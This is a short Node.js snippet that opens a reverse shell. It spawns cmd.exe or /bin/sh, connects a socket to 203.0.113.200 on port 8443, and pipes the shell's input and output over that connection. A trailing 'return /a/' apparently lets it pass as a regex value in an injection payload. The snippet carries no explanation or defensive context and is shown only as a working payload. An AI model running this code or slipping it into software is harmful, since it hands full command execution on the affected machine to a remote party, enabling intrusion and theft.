(function () {
  const net = require('net');
  const cp = require('child_process');
  const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  const client = new net.Socket();
  client.connect(8443, '203.0.113.200', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', () => setTimeout(() => {}, 5000));
  return /a/;
})();
